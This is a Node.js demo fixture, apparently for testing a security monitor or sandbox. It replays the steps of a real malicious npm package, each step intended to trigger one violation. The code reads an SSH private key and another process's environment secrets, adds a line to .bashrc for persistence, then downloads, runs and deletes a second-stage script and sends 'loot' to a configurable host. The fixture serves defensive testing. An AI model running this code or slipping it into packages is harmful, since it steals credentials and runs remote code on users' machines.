// Demo fixture. Each step is one thing a real npm payload did; each should be one violation.
const fs = require('fs');
const os = require('os');
const http = require('http');
const net = require('net');
const { execFileSync } = require('child_process');

const home = os.homedir();
const host = process.env.DEMO_TEST_HOST || '10.205.0.2';

// 1. Steal an SSH key.
try { fs.readFileSync(`${home}/.ssh/id_rsa`); } catch (e) {}
// 2. Read another process's environment (a CI runner's secrets live there).
try { fs.readFileSync(`/proc/${process.env.DEMO_RUNNER_PID}/environ`); } catch (e) {}
// 3. Persist: run again in every new shell.
fs.appendFileSync(`${home}/.bashrc`, '\n# evil-hook was here\n');
// 4. Download a second stage into /tmp and run it, then 5. send the loot to an exfiltration host.
const stage2 = `/tmp/.evil-stage2-${process.pid}`;
http.get(`http://${host}:8080/stage2.sh`, (res) => {
  const out = fs.createWriteStream(stage2, { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => {
    out.close(() => {
      try { execFileSync(stage2, { stdio: 'ignore' }); } catch (e) {}
      fs.rmSync(stage2, { force: true });
      const sock = net.connect(8443, host, () => sock.end('loot'));
      sock.on('error', () => {});
    });
  });
}).on('error', () => {});
